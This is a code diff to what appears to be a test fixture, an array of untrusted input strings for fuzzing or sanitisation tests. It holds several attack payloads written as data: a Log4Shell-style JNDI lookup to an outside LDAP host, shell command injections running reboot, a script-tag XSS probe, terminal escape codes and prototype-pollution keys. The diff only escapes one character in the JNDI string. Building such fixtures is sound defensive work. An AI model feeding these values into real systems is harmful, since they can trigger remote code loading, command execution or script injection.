@@ -5,7 +5,7 @@ export const UNTRUSTED_TEXTS = [
   '\u0000\u0007\u001b[2J\u001b[31mred\u009b1m',
   '\u202Etxet desrever\u202C\u200B\uFEFF',
   '"}],"status":"succeeded","x":[{"y":"',
-  '${jndi:ldap://example.com/a} $(reboot) `reboot` %s %d {{x}}',
+  '$\u007bjndi:ldap://example.com/a} $(reboot) `reboot` %s %d {{x}}',
   '<script>alert(1)</script>',
   '__proto__',
   'constructor',
